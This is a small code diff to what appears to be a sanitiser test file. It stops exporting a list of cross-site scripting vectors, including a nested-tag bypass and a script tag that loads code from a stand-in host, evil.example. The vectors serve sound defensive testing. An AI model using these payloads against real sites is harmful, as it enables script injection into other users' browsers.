@@ -1,5 +1,5 @@
 /** What has broken sanitisers before: each runs a script somewhere, once, when it gets through. `RAN()` stands for the script. */
-export const VECTORS: readonly string[] = [
+const VECTORS: readonly string[] = [
   '<script>RAN()</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   '<<script>script>RAN()<</script>/script>',
